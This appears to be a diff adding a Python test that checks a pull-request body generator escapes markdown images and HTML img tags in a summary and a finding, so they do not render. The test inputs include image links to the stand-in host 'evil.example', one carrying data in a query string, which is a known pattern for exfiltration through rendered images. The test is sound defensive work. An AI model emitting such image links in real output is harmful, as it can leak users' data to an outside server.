@@ -56,3 +56,15 @@ def test_a_pull_request_says_cause_change_what_needs_an_eye_and_what_was_not_ver
     )
     for part in ("to_euro was renamed.", "AttributeError: module", "except-widened", "rerun: not run yet", "`s1`", "$0.02"):
         assert part in body
+
+
+def test_a_pull_request_shows_no_picture_that_a_summary_asks_for() -> None:
+    summary = "Fixed.\n![x](http://evil.example/?q=rows) ![y][z] <img src='http://evil.example/a'>\n\nif a < b"
+    found = Finding("task-removed", Severity.PERSON, "a.py", "the task '![x](http://evil.example)' is gone")
+    body = commit.pull_request_body(
+        an_incident(), session_id="s1", summary=summary, paths=["a.py"], findings=[found], stages=[], cost="$0"
+    )
+    assert body.startswith(
+        "Fixed.\n\\![x](http://evil.example/?q=rows) \\![y][z] \\<img src='http://evil.example/a'>\n\nif a < b\n"
+    )
+    assert "the task '\\![x](http://evil.example)' is gone" in body
